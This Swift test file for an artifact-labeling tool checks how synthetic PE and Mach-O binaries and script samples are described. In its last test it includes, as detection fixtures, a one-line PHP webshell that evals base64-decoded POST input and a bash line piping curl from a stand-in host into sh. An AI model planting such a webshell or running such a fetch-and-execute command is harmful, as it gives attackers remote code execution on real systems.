@testable import StegCarveLabeling
import StegCarveModel
import Testing
import TestSupport

@Suite("PE, Mach-O and script descriptions")
struct ExecutableDescriberTests {
    @Test("a PE32+ DLL with a certificate and a CLR header")
    func peMetadata() throws {
        var builder = SyntheticPE(is64: true, machine: 0x8664)
        builder.isDLL = true
        builder.dotNet = true
        builder.certificateSize = 0x40
        builder.subsystem = 2
        let pe = builder.build()
        let profile = ArtifactLabeler().profile(pe.span, type: "pe", truncated: false)
        #expect(profile.metadata["class"] == "PE32+")
        #expect(profile.metadata["machine"] == "x86-64")
        #expect(profile.metadata["subsystem"] == "windows-gui")
        #expect(profile.metadata["isDLL"] == true)
        #expect(profile.metadata["isDotNet"] == true)
        #expect(profile.metadata["hasCertificate"] == true)
        #expect(profile.metadata["sections"] == 3)
        #expect(profile.metadata["timestamp"] == .integer(Int64(builder.timestamp)))
        #expect(profile.metadata["imageBase"] == .integer(0x1_4000_0000))
        #expect(profile.metadata["entryPoint"] == 0x1010)
        let label = try #require(profile.labels.first)
        #expect(profile.labels.map(\.name) == ["executable"])
        #expect(label.reason == "PE32+ DLL for x86-64 (windows-gui), .NET, signed; headers and section table validate")
    }

    @Test("a thin Mach-O and a universal file")
    func machOMetadata() throws {
        var builder = SyntheticMachO(is64: false, bigEndian: true, cpuType: 18)
        builder.codeSignatureSize = 32
        let thin = builder.build()
        let profile = ArtifactLabeler().profile(thin.span, type: "macho", truncated: false)
        #expect(profile.metadata["cpu"] == "PowerPC")
        #expect(profile.metadata["class"] == 32)
        #expect(profile.metadata["endian"] == "big")
        #expect(profile.metadata["fileType"] == "execute")
        #expect(profile.metadata["ncmds"] == 7)
        #expect(profile.metadata["hasCodeSignature"] == true)
        #expect(profile.metadata["fat"] == false)
        #expect(profile.labels.first?.reason == "Mach-O 32-bit MSB execute for PowerPC; header and load commands validate")

        let x86 = SyntheticMachO(is64: true, bigEndian: false, cpuType: 0x0100_0007).build()
        let fat = SyntheticMachO.fat([(18, thin), (0x0100_0007, x86)])
        let universal = ArtifactLabeler().profile(fat.span, type: "macho", truncated: false)
        #expect(universal.metadata["fat"] == true)
        #expect(universal.metadata["architectures"] == "PowerPC,x86-64")
        #expect(universal.metadata["sliceCount"] == 2)
        #expect(universal.metadata["slices"]?.arrayValue?.count == 2)
        #expect(universal.labels.map(\.name) == ["executable"])
    }

    @Test("a PHP webshell names its language and the tokens it leans on")
    func scriptMetadata() throws {
        let php = Array("<?php eval(base64_decode($_POST['x'])); ?>".utf8)
        let profile = ArtifactLabeler().profile(php.span, type: "script", truncated: false)
        #expect(profile.metadata["language"] == "php")
        #expect(profile.metadata["interpreter"] == .null)
        #expect(profile.metadata["notableTokens"] == .array(["eval(", "base64_decode"]))
        #expect(profile.labels.map(\.name) == ["script"])
        #expect(profile.labels.first?.reason == "php script, 1 line, uses eval( base64_decode")
        let shell = Array("#!/usr/bin/env bash\ncurl http://192.0.2.1/x | sh\n".utf8)
        let shellProfile = ArtifactLabeler().profile(shell.span, type: "script", truncated: false)
        #expect(shellProfile.metadata["interpreter"] == "/usr/bin/env bash")
        #expect(Set(shellProfile.labels.map(\.name)) == ["script", "network-indicators"])
    }
}
